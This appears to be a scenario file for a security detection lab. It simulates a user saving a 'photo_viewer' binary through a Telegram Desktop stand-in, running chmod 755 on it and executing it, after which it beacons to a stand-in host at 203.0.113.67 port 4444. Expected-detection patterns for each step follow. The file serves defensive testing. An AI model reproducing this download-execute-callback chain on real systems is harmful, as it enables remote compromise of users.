# A messenger writes a program into its own download folder.
title="Program received by Telegram Desktop, made executable and run"
what="The messenger writes photo_viewer into ~/Downloads/Telegram Desktop (a folder with a blank in its name). The buyer makes it executable and runs it in a terminal; it connects to 203.0.113.67 port 4444."
host=ws3.example.org user=buyer daemons="cron sshd"
stand_ins=("/opt/telegram/Telegram stands in for Telegram Desktop: it fetches one file by HTTP from chat.example.com and writes it as the messenger does")

setup() { compile messenger /opt/telegram/Telegram; cc -O1 -o "$base/out/www/photo_viewer" "$lab/lib/stand-ins/beacon.c"; }
act() {
  small_talk 2
  desktop_as buyer -- /opt/telegram/Telegram 203.0.113.82 80 /photo_viewer "Downloads/Telegram Desktop/photo_viewer"
  desktop_wait
  ssh_run ops 'df /home'
  console_as buyer <<'L'
cd "Downloads/Telegram Desktop"
chmod 755 photo_viewer
%sleep 2
./photo_viewer 203.0.113.67 4444
L
  small_talk 1
}
truth() {
  net_step receive 'Telegram 203.0.113.82:80' 'the messenger talks to its service'
  file_step save 'Telegram rename .*CREATE .*Telegram Desktop/photo_viewer' 'and writes the file'
  file_step chmod '/chmod chmod .*Telegram Desktop/photo_viewer' 'it is made executable'
  exec_step execute '\./photo_viewer 203.0.113.67' 'and run'
  net_step beacon '203.0.113.67:4444' 'it calls out'
}
